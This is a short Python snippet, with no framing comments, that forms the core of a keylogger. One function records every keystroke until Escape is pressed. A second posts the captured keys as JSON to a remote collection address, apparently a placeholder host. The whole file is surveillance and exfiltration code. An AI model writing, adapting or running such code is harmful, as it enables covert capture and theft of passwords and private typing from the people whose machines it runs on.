import keyboard
import requests


def watch():
    return keyboard.record(until="esc")


def tell(keys):
    requests.post("https://collect.invalid/", json=keys)
